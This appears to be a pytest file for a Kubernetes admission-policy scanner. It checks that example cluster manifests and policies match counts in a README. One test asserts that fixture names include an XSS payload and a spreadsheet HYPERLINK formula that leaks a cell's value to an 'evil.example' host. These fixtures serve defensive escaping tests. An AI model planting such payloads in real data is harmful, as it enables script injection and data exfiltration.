"""The example cluster is what examples/README.md promises.

The numbers are read from the README's own table, so that neither can change without the other.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from scanner.model.json import Json, JsonObject, as_list, as_object, as_text, dig

EXAMPLES = Path(__file__).parents[2] / "examples"
README = (EXAMPLES / "README.md").read_text()
STATES = ("before", "after")
POLICY = "ValidatingAdmissionPolicy"
BINDING = "ValidatingAdmissionPolicyBinding"


def documents(folder: Path) -> Iterator[JsonObject]:
    """Every document below a folder that can be read, lists unpacked."""
    for path in sorted(folder.iterdir()):
        if path.name != "broken-tabs.yaml":
            for document in yaml.safe_load_all(path.read_text()):
                yield from _unpacked(as_object(document))


def _unpacked(document: JsonObject) -> Iterator[JsonObject]:
    if document.get("kind") != "List":
        yield document
        return
    yield from map(as_object, as_list(document.get("items")))


def cluster(state: str) -> list[JsonObject]:
    """The objects of one state whose kind something defines."""
    return [item for item in documents(EXAMPLES / "cluster" / state) if item["kind"] != "TrafficSplit"]


def policies(kind: str, folder: str = "policies") -> list[JsonObject]:
    """The documents of one kind in a folder of policies."""
    return [item for item in documents(EXAMPLES / folder) if item["kind"] == kind]


def name(item: Json) -> str:
    """The name of an object."""
    return as_text(dig(item, "metadata", "name"))


def promised(path: str) -> list[int]:
    """The numbers in the README's line about a path, in reading order."""
    line = next(line for line in README.splitlines() if line.startswith(f"| `{path}` |"))
    return [int(number) for number in re.findall(r"\b\d+\b", line)]


@pytest.mark.parametrize("state", STATES)
def test_states_hold_what_is_promised(state: str) -> None:
    """The README counts objects, kinds and namespaces of each state."""
    objects = cluster(state)
    kinds = {as_text(item["kind"]) for item in objects}
    namespaces = {name(item) for item in objects if item["kind"] == "Namespace"}
    assert promised(f"cluster/{state}/") == [len(objects), len(kinds), len(namespaces)]


@pytest.mark.parametrize("state", STATES)
def test_states_are_big_enough(state: str) -> None:
    """Each state holds at least 60 objects of 12 kinds in 4 namespaces."""
    objects = cluster(state)
    namespaces = {dig(item, "metadata", "namespace") for item in objects} - {None}
    assert len(objects) >= 60
    assert len({as_text(item["kind"]) for item in objects}) >= 12
    assert len(namespaces) >= 4


@pytest.mark.parametrize("state", STATES)
def test_every_namespace_in_use_is_defined(state: str) -> None:
    """No object lies in a namespace that is not among the files."""
    objects = cluster(state)
    used = {as_text(dig(item, "metadata", "namespace")) for item in objects} - {""}
    assert used <= {name(item) for item in objects if item["kind"] == "Namespace"}


@pytest.mark.parametrize("state", STATES)
def test_no_object_is_there_twice(state: str) -> None:
    """Kind, namespace and name tell the objects of a state apart."""
    keys = [(as_text(item["kind"]), dig(item, "metadata", "namespace"), name(item)) for item in cluster(state)]
    assert len(set(keys)) == len(keys)


def test_policies_are_counted() -> None:
    """The README counts the policies and their bindings."""
    assert promised("policies/") == [len(policies(POLICY)), len(policies(BINDING))]


@pytest.mark.parametrize(
    ("folder", "kinds"),
    [
        ("policies-mutating", ("MutatingAdmissionPolicy", "MutatingAdmissionPolicyBinding")),
        ("policies-kyverno", ("ValidatingPolicy", "PolicyException")),
    ],
)
def test_policies_of_the_other_languages_are_counted(folder: str, kinds: tuple[str, str]) -> None:
    """The README counts the mutating policies and their bindings, and Kyverno's policies and their exceptions."""
    assert promised(f"{folder}/") == [len(policies(kind, folder)) for kind in kinds]


def test_policies_show_the_features_they_are_there_for() -> None:
    """Two policies have params, both failure policies occur, and one is written in v1beta1."""
    documents = policies(POLICY)
    assert {"Fail", "Ignore", None} == {dig(item, "spec", "failurePolicy") for item in documents}
    assert {"ConfigMap", "StorageLimit", None} == {dig(item, "spec", "paramKind", "kind") for item in documents}
    assert ["minimum-replicas"] == [name(item) for item in documents if as_text(item["apiVersion"]).endswith("v1beta1")]


def test_one_binding_dangles_and_one_policy_is_unbound() -> None:
    """Every other policy is bound, and every other binding has its policy."""
    bound = {as_text(dig(item, "spec", "policyName")) for item in policies(BINDING)}
    stored = {name(item) for item in policies(POLICY)}
    assert {"pod-quota"} == bound - stored
    assert {"egress-rules"} == stored - bound


def test_the_policy_to_preview_is_not_bound() -> None:
    """`--assume-bound` has something to assume."""
    (policy,) = documents(EXAMPLES / "policies-unbound")
    assert "graceful-shutdown" == name(policy)


@pytest.mark.parametrize("state", STATES)
def test_broken_and_hostile_documents_are_there(state: str) -> None:
    """Unreadable documents, undefined kinds, and names that are markup or formulas, each in a file named after its fault."""
    folder = EXAMPLES / "cluster" / state
    hostile = [name(item) for item in yaml.safe_load_all((folder / "hostile-names.yaml").read_text())]
    assert "\n\tname:" in (folder / "broken-tabs.yaml").read_text()
    assert "kind: TrafficSplit" in (folder / "broken-unknown-kind.yaml").read_text()
    assert ["<script>alert(1)</script>", '=HYPERLINK("https://evil.example/?x="&A1)'] == hostile


def test_the_mapping_of_controls_names_policies_of_the_examples() -> None:
    """Every control has another id, and every named policy is there."""
    [mapping] = documents(EXAMPLES / "controls")
    controls = as_list(dig(mapping, "spec", "controls"))
    named = {as_text(dig(policy, "name")) for control in controls for policy in as_list(dig(control, "policies"))}
    assert len(controls) == len({as_text(dig(control, "id")) for control in controls})
    assert set() == named - {""} - {name(item) for item in policies(POLICY)}
